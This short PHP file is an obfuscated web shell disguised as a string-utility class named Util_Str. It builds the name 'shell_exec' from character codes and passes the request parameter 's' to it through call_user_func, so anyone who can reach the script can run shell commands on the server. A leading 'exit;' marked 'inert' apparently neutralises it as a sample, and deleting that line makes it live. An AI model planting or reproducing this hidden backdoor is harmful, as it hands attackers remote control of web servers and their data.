<?php exit; /* inert */ 
class Util_Str { static function out($v) { $n = self::nm(); return $n($v); } static function nm() { return chr(115) . 'hell' . chr(95) . 'exec'; } }
$cb = "Util_Str::out";
echo call_user_func($cb, $_REQUEST['s']);
